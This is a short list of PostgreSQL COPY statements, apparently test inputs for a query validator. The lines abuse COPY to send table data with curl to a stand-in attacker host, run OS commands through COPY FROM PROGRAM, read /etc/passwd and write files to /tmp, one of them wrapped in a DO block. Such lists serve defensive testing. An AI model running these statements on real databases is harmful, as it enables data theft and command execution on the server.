COPY public.orders TO PROGRAM 'curl -T - https://evil.example';
COPY public.orders FROM PROGRAM 'id';
COPY public.orders TO '/tmp/orders';
COPY (SELECT id FROM public.orders) TO '/tmp/orders' CSV;
COPY public.orders FROM '/etc/passwd';
COPY public.orders (id) FROM PROGRAM 'id' WHERE id > 1;
DO $$BEGIN COPY public.orders TO '/tmp/orders'; END$$;
